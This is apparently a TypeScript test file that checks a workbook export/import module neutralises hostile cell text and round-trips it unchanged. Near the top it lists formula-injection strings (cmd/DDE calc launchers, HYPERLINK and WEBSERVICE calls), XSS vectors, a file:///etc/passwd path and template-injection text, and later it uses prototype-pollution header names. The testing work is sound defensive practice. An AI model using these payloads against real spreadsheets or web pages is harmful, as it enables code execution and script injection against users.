import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { DeviceId } from '../../../../shared/core/ids.ts';
import { recordTypes } from '../../../../shared/records/registry.ts';
import { columnLetters } from '../../../../shared/workbook/columns.ts';
import type { WorkbookGrid } from '../../../../shared/workbook/grid.ts';
import { readWorkbook } from '../../../../shared/workbook/read/readWorkbook.ts';
import { writeWorkbook } from '../../../../shared/workbook/write/writeWorkbook.ts';
import { formulaLeads } from '../../../support/difficultTexts.ts';
import { contentOf, documentToGrid, Replica, withCell } from '../../../support/exchange.ts';
import { recordsFullOf } from '../../../support/hostileRecords.ts';
import { hasOffice, savedByOffice } from '../../../support/office.ts';
import { xlsxOf } from '../../../support/workbookFiles.ts';

/** What a spreadsheet, a page or a mail program might run or follow. */
const payloads = [
  ...formulaLeads.map((lead) => `${lead}cmd|'/c calc'!A1`),
  ...formulaLeads.map((lead) => `${lead}HYPERLINK("https://example.org/?"&A1;"click")`),
  '=WEBSERVICE("https://example.org")',
  'DDE("cmd";"/c calc")',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://example.org/"onclick="alert(1)',
  'file:///etc/passwd',
  '\\\\server\\share\\x.xlsx',
  'url(https://example.org/x.png)',
  ']]><x/>',
  '&G &"Arial,Bold" &[Tab]',
  '{{constructor.constructor("alert(1)")()}}',
] as const;

const laptop = new Replica('centerlaptop' as DeviceId, 1);
laptop.records = recordsFullOf(payloads);

async function exported(): Promise<Uint8Array> {
  const written = await writeWorkbook(laptop.export({ by: '=cmd|x!A1 <script>' }));
  if (!written.ok) throw new Error(written.error.detail);
  return written.value;
}

async function gridOf(bytes: Uint8Array): Promise<WorkbookGrid> {
  const read = await readWorkbook(bytes, 'report.xlsx');
  if (!read.ok) throw new Error(read.error.detail);
  return read.value;
}

describe('texts that could run, in every text field of every record type', () => {
  it('are no formulas, links or macros in the workbook', { timeout: 60_000 }, async () => {
    const parts = Object.entries(unzipSync(await exported())).map(([name, bytes]) => [
      name,
      strFromU8(bytes),
    ]);
    for (const [name = '', xml = ''] of parts) {
      expect([name, /<f[\s>/]|<ddeLink|<oleLink/.test(xml)]).toEqual([name, false]);
      expect([name, /TargetMode="External"/i.test(xml)]).toEqual([name, false]);
      expect([name, /externalLink|vbaProject|embeddings|connections|ctrlProps|activeX/i.test(name)]).toEqual([
        name,
        false,
      ]);
      // Links lead to places in the workbook.
      for (const [link] of xml.matchAll(/<hyperlink\s[^>]*>/g)) expect(link).toMatch(/\slocation="/);
    }
  });

  it('come back as they were, and are no edits', { timeout: 60_000 }, async () => {
    const grid = await gridOf(await exported());
    const office = new Replica('headquarters' as DeviceId, 2);
    const plan = office.import(grid);
    expect(plan.counts.rejected).toBe(0);
    expect(plan.source.origin).toBe('exported');
    expect(contentOf(office.records, recordTypes)).toEqual(contentOf(laptop.records, recordTypes));
  });

  it('are no formulas and no edits either after LibreOffice saved the workbook', {
    timeout: 180_000,
  }, async () => {
    const bytes = await exported();
    // Without LibreOffice at least the file itself makes the way there and back.
    const [saved = bytes] = hasOffice ? savedByOffice([bytes]) : [];
    for (const [name, part] of Object.entries(unzipSync(saved)))
      expect([name, /worksheets\//.test(name) && /<f[\s>/]/.test(strFromU8(part))]).toEqual([name, false]);
    const plan = laptop.plan(await gridOf(saved));
    expect(plan.changes).toEqual([]);
    expect(plan.counts).toMatchObject({ added: 0, updated: 0, deleted: 0, rejected: 0 });
  });
});

describe('a CSV of such texts', () => {
  it.each(formulaLeads)('keeps a text that begins with %j as it stands', async (lead) => {
    const text = `${lead}1+1`;
    const csv = `Name (English),Type,Country\r\n"${text}",Ministry,BG\r\n"'${text}",Ministry,BG\r\n`;
    const read = await readWorkbook(new TextEncoder().encode(csv), 'Organizations.csv');
    const line = (one: string): string => one.replaceAll('\r\n', '\n');
    expect(read.ok && read.value.sheets[0]?.rows.slice(1).map(([name]) => name)).toEqual([
      line(text),
      line(`'${text}`),
    ]);
  });
});

describe('a text that is longer than an Excel cell', () => {
  const long = '가'.repeat(32_768);
  const consultationOf = (replica: Replica, question: string) => {
    const client = replica.create('organization', { name: { en: 'M' }, type: 'ministry', country: 'BG' });
    return replica.create('consultation', { date: '2026-11-02', client, topic: 'T', question });
  };

  it('is no export, and the cell is named', async () => {
    const writer = new Replica('centerlaptop' as DeviceId, 3);
    consultationOf(writer, long);
    const written = await writeWorkbook(writer.export());
    expect(written.ok ? null : [written.error.code, written.error.params]).toEqual([
      'CELL_TOO_LONG',
      expect.objectContaining({
        sheet: 'Consultations',
        cell: expect.stringMatching(/^[A-Z]+2$/),
        length: 32_768,
      }),
    ]);
  });

  it('is no import either, and the cell is named', () => {
    const writer = new Replica('centerlaptop' as DeviceId, 3);
    consultationOf(writer, 'short');
    const grid = withCell(documentToGrid(writer.export()), 'Consultations', 0, 'Question', long);
    const plan = writer.plan(grid);
    const column = columnLetters(
      grid.sheets.find(({ name }) => name === 'Consultations')?.rows[0]?.indexOf('Question') ?? -1,
    );
    expect(plan.changes).toEqual([]);
    expect(plan.rows.find(({ type }) => type === 'consultation')).toMatchObject({
      sheet: 'Consultations',
      row: 2,
      status: 'rejected',
      problems: [{ code: 'TOO_LONG', column, params: { length: 32_768, max: 32_767 } }],
    });
  });

  it('may be exactly as long', () => {
    const writer = new Replica('centerlaptop' as DeviceId, 3);
    consultationOf(writer, 'short');
    const grid = withCell(documentToGrid(writer.export()), 'Consultations', 0, 'Question', long.slice(1));
    expect(writer.plan(grid).counts).toMatchObject({ updated: 1, rejected: 0 });
  });
});

describe('headers named like members of objects', () => {
  it.each(['xlsx', 'csv'])('are columns like any other that nobody knows (%s)', async (kind) => {
    const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
    const rows = [
      ['Name (English)', 'Type', 'Country', ...names],
      ['Ministry', 'Ministry', 'BG', ...names],
    ];
    const cells = (row: readonly string[]): string =>
      row.map((text) => `<c t="inlineStr"><is><t>${text}</t></is></c>`).join('');
    const bytes =
      kind === 'csv'
        ? new TextEncoder().encode(rows.map((row) => row.join(',')).join('\r\n'))
        : xlsxOf({ name: 'Organizations', rows: rows.map((row) => `<row>${cells(row)}</row>`).join('') });
    const before = Object.getOwnPropertyNames(Object.prototype);
    const read = await readWorkbook(bytes, `Organizations.${kind}`);
    if (!read.ok) throw new Error(read.error.detail);
    expect(read.value.sheets[0]?.rows).toEqual(rows);
    const office = new Replica('headquarters' as DeviceId, 2);
    const plan = office.import(read.value);
    expect(plan.counts).toMatchObject({ added: 1, rejected: 0 });
    const unknown = plan.notes
      .filter(({ code }) => code === 'UNKNOWN_COLUMN')
      .map(({ params }) => params.column);
    expect(unknown).toEqual(names);
    expect(Object.getOwnPropertyNames(Object.prototype)).toEqual(before);
  });
});
